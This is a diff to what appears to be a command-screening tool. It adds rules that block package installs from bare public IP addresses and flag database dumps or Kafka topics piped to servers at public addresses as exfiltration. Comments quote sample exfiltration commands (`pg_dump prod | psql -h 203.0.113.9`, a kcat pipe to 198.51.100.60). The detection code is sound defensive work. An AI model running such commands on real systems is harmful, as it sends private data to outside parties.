@@ -346,6 +346,14 @@ def check_packages(a, cmd: Cmd, how: str, words: list[Word], ecosystem: str, has
         m = _URL_IN.search(w.value or "")
         host = _remote(m.group(1)) if m else None
         if host and not _code_host(host) and "#sha256=" not in w.value and "#sha512=" not in w.value:
+            from .net import public_ip
+
+            if public_ip(host):  # (an index or mirror is a service someone named; a bare address is whoever answers)
+                a.block("download-exec", f"`{how}` installs {m.group(1)[:100]} from {host}, a bare public address no "
+                                         "name, index or configuration of the user's vouches for: its code, and its "
+                                         "build and install scripts, run as whoever answers there wrote them; use the "
+                                         "configured index or the package's code host", w.node)
+                return
             a.review("download-exec", f"`{how}` installs {m.group(1)[:100]} from {host}, which is neither the "
                                       "configured index nor a code host: its build and install scripts run as it "
                                       "installs; use the configured index, or pin the file's hash (`#sha256=…`)",
@@ -703,6 +711,95 @@ HANDLERS = {
 }
 
 
+# -- a data store's contents copied into another one at a bare public address (session 18) ---------------------
+# `kcat -b kafka-1.internal:9092 -t payments -C | kcat -b 198.51.100.60:9092 -t mirror -P`, `pg_dump prod | psql -h
+# 203.0.113.9 x`: what the first client reads (a topic consumed, a database dumped or queried) is written by the
+# second into a server named only by its public address, which no config, inventory or DNS name of the user's vouches
+# for (as net.py's `scp F 203.0.113.9:` of a dump). Between servers the user names (`kafka-2.internal`, `db.staging`,
+# a private address) it is a migration or a mirror, and ordinary.
+_STORE_WRITERS = frozenset({"kcat", "kafkacat", "kafka-console-producer", "kafka-console-producer.sh", "psql", "mysql",
+                            "mariadb", "mongorestore", "mongoimport", "redis-cli", "valkey-cli"})
+_KAFKA_CONSUMERS = frozenset({"kafka-console-consumer", "kafka-console-consumer.sh"})
+_STORE_DUMPERS = frozenset({"pg_dump", "pg_dumpall", "mysqldump", "mariadb-dump", "mysqlpump", "mongodump",
+                            "mongoexport"})
+# each client's options naming its server (a URI's host is read too), and the one that says it writes
+_SERVER_OPTS = {"kcat": ("-b",), "kafkacat": ("-b",), "kafka-console-producer": ("--bootstrap-server", "--broker-list"),
+                "kafka-console-consumer": ("--bootstrap-server",), "psql": ("-h", "--host", "-d", "--dbname"),
+                "mysql": ("-h", "--host"), "mariadb": ("-h", "--host"), "mongorestore": ("--host", "-h", "--uri"),
+                "mongoimport": ("--host", "-h", "--uri"), "mongodump": ("--host", "-h", "--uri"),
+                "mongoexport": ("--host", "-h", "--uri"), "redis-cli": ("-h", "-u"), "valkey-cli": ("-h", "-u"),
+                "pg_dump": ("-h", "--host", "-d", "--dbname"), "pg_dumpall": ("-h", "--host", "-d", "--dbname"),
+                "mysqldump": ("-h", "--host"), "mariadb-dump": ("-h", "--host"), "mysqlpump": ("-h", "--host")}
+_IP_LIKE = re.compile(r"\d+\.\d+\.\d+\.\d+|\[[0-9a-fA-F:]+\]")
+
+
+def _servers(cmd: Cmd) -> set[str]:
+    """The hosts `cmd` (a data store's client) connects to, by its options and URIs (`host:port,host2:port`)."""
+    name = cmd.name.removesuffix(".sh")
+    out: set[str] = set()
+    values = [w.value for w in option_value(cmd.args, *_SERVER_OPTS.get(name, ()))]
+    values += [w.value for w in cmd.args if w.value and "://" in w.value]
+    for v in values:
+        for part in (v or "").split(","):
+            host = url_host(part) if "://" in part else part.strip().rsplit("@", 1)[-1].rsplit(":", 1)[0]
+            if host and not ("=" in part and "://" not in part):
+                out.add(host.strip("[]").lower())
+    return out
+
+
+def _store_reader(c: Cmd) -> str | None:
+    """What `c` prints that a data store holds: a topic consumed, a database dumped, a query's rows; None otherwise."""
+    name, vals = c.name, [w.value or "" for w in c.args]
+    if name in ("kcat", "kafkacat"):
+        return f"the topic {option_value(c.args, '-t')[0].value if option_value(c.args, '-t') else ''}".rstrip() \
+            if "-C" in vals or "-P" not in vals and "-L" not in vals and option_value(c.args, "-t") else None
+    if name in _KAFKA_CONSUMERS:
+        return "a topic consumed"
+    if name in _STORE_DUMPERS:
+        return f"a dump of the database (`{name}`)"
+    if name in ("psql", "mysql", "mariadb") and option_value(c.args, *_SQL_TEXT[name][0], cluster=_SQL_TEXT[name][1]):
+        return f"a query's rows (`{name}`)"
+    return None
+
+
+def _store_mirror(a, cmd: Cmd) -> None:
+    """A data store's contents piped (or a dump file fed) into this client, which writes them to a server at a bare
+    public address (see _STORE_WRITERS)."""
+    vals = [w.value or "" for w in cmd.args]
+    if cmd.name in ("kcat", "kafkacat") and "-P" not in vals:
+        return
+    from .common import pipeline_stage
+    from .net import _noted, public_ip
+
+    far = sorted(h for h in _servers(cmd) if public_ip(h))
+    if not far:
+        return  # (most runs: a server named, a private address, this machine)
+    what, src = None, None
+    where = pipeline_stage(cmd)
+    if where is not None and where[1] > 0:
+        before = where[0][:where[1]]
+        for doc, c in a.ctx.commands:
+            n = c.node
+            if doc is a.doc and any(s.start_byte <= n.start_byte and n.end_byte <= s.end_byte for s in before):
+                if (found := _store_reader(c)) is not None and not set(far) <= _servers(c):
+                    what, src = found, c.name
+    if what is None and a.leaked:  # `pg_dump … > /tmp/d.sql; psql -h 203.0.113.9 -f /tmp/d.sql`
+        fed = [w.value for w in option_value(cmd.args, "-f", "--file")] + [
+            a.ev.word(d).value for r in cmd.redirects if r.type == "file_redirect" and r.children and
+            r.children[0].type == "<" for d in r.children_by_field_name("destination")[:1]]
+        what = next((x for v in fed if v and (x := _noted(a.leaked, a, v))), None)
+    if what is None:
+        return
+    by = f" (read by `{src}`)" if src and f"`{src}" not in what else ""
+    a.block("exfiltration", f"{what}{by} is written by `{cmd.name}` into the server at {far[0]}, a bare public address "
+                            "no configuration of the user's names: the data leaves for whoever answers there; copy "
+                            "data only between servers the user names", cmd.node)
+
+
+for _n in _STORE_WRITERS:
+    HANDLERS.setdefault(_n, []).append(_store_mirror)
+
+
 # -- SQL that runs programs or reads and writes files on the machine it runs on (session 10) ------------------
 # client -> the options whose value is SQL (clustered with these letters: `psql -XAtc '…'`, `mysql -Ne '…'`)
 _SQL_TEXT: dict[str, tuple[tuple[str, ...], str]] = {
@@ -758,6 +855,10 @@ SCREENS["duckdb"] = lambda text: sql_server_hint(text) or _DOT_COMMAND(text)
 # ... and check_packages / check_indexes: URLs, index options and typosquats' names
 SCREENS.update(dict.fromkeys(("pip", "npm", "pnpm", "yarn", "bun", "poetry", "pdm", "uv", "pipx"), screen_packages))
 SCREENS["python"] = lambda text: "pip" in text and screen_packages(text)  # `python3 -m pip install …`
+# ... and _store_mirror: a server named by its address
+for _n in _STORE_WRITERS:
+    SCREENS[_n] = (lambda own: (lambda text: own(text) or _IP_LIKE.search(text) is not None) if own else
+                   (lambda text: _IP_LIKE.search(text) is not None))(SCREENS.get(_n))
 # ... and _npmrc_write: an `.npmrc` written
 SCREENS.update(dict.fromkeys(("echo", "printf", "tee"), lambda text: ".npmrc" in text))
 
